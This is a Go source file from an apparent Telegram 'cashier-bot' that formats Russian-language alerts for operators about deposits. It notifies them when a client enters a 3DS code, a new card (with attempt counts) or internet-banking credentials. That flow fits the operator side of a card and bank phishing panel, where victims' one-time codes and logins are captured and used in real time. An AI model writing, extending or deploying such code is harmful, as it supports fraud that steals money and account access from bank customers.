package notifier

import (
	"fmt"
	"strings"

	"github.com/admin/tg-bots/cashier-bot/internal/domain"
)

// Тексты уведомлений для операторов. Номер карты всегда маскируется,
// коды и банковские учётные данные в сообщения не попадают.

// NewPaymentText уведомление о новой заявке на депозит
func NewPaymentText(p *domain.Payment) string {
	var b strings.Builder

	b.WriteString("💰 НОВАЯ ЗАЯВКА НА ДЕПОЗИТ\n\n")
	fmt.Fprintf(&b, "ID: %s\n", p.ID)
	fmt.Fprintf(&b, "Сумма: %.2f %s\n", p.Amount, p.Currency)
	fmt.Fprintf(&b, "Способ: %s\n", methodTitle(p.Method))

	switch p.Method {
	case domain.PaymentMethodCard:
		if masked := p.MaskedCardNumber(); masked != "" {
			fmt.Fprintf(&b, "Карта: %s\n", masked)
		}
	case domain.PaymentMethodCrypto:
		if p.CryptoType != nil {
			fmt.Fprintf(&b, "Криптовалюта: %s", *p.CryptoType)
			if p.Network != nil {
				fmt.Fprintf(&b, " (%s)", *p.Network)
			}
			b.WriteString("\n")
		}
	case domain.PaymentMethodBankTransfer:
		if p.BankName != nil {
			fmt.Fprintf(&b, "Банк: %s\n", *p.BankName)
		}
	}

	fmt.Fprintf(&b, "Статус: %s", p.Status)
	return b.String()
}

// ThreeDSSubmittedText клиент ввёл код 3DS
func ThreeDSSubmittedText(p *domain.Payment) string {
	return fmt.Sprintf(
		"🔐 КЛИЕНТ ВВЁЛ КОД 3DS\n\nID: %s\nСумма: %.2f %s\nКарта: %s\nПопытка: %d из %d",
		p.ID, p.Amount, p.Currency, p.MaskedCardNumber(), p.AttemptsCount, p.MaxAttempts,
	)
}

// NewCardSubmittedText клиент ввёл данные новой карты
func NewCardSubmittedText(p *domain.Payment) string {
	return fmt.Sprintf(
		"💳 КЛИЕНТ ВВЁЛ НОВУЮ КАРТУ\n\nID: %s\nСумма: %.2f %s\nКарта: %s\nПопытка: %d из %d",
		p.ID, p.Amount, p.Currency, p.MaskedCardNumber(), p.AttemptsCount, p.MaxAttempts,
	)
}

// BankCredentialsSubmittedText клиент ввёл данные интернет-банка
// Сами учётные данные в уведомление не включаются
func BankCredentialsSubmittedText(p *domain.Payment) string {
	bank := "—"
	if p.BankName != nil {
		bank = *p.BankName
	}
	return fmt.Sprintf(
		"🏦 КЛИЕНТ ВВЁЛ ДАННЫЕ БАНКА\n\nID: %s\nСумма: %.2f %s\nБанк: %s",
		p.ID, p.Amount, p.Currency, bank,
	)
}

// CompletedText платёж завершён
func CompletedText(p *domain.Payment) string {
	return fmt.Sprintf(
		"✅ ДЕПОЗИТ ЗАЧИСЛЕН\n\nID: %s\nСумма: %.2f %s",
		p.ID, p.Amount, p.Currency,
	)
}

// FailedText платёж не прошёл
func FailedText(p *domain.Payment) string {
	return fmt.Sprintf(
		"❌ ДЕПОЗИТ НЕ ПРОШЁЛ\n\nID: %s\nСумма: %.2f %s\nСтатус: %s",
		p.ID, p.Amount, p.Currency, p.Status,
	)
}

// ManagerCreatedText короткая копия для чата менеджеров
func ManagerCreatedText(p *domain.Payment) string {
	return fmt.Sprintf(
		"Новый депозит %s: %.2f %s (%s)",
		p.ID, p.Amount, p.Currency, methodTitle(p.Method),
	)
}

// ManagerCompletedText копия о завершении для чата менеджеров
func ManagerCompletedText(p *domain.Payment) string {
	return fmt.Sprintf(
		"Депозит %s завершён: %.2f %s",
		p.ID, p.Amount, p.Currency,
	)
}

func methodTitle(m domain.PaymentMethod) string {
	switch m {
	case domain.PaymentMethodCard:
		return "Банковская карта"
	case domain.PaymentMethodCrypto:
		return "Криптовалюта"
	case domain.PaymentMethodBankTransfer:
		return "Банковский перевод"
	default:
		return string(m)
	}
}
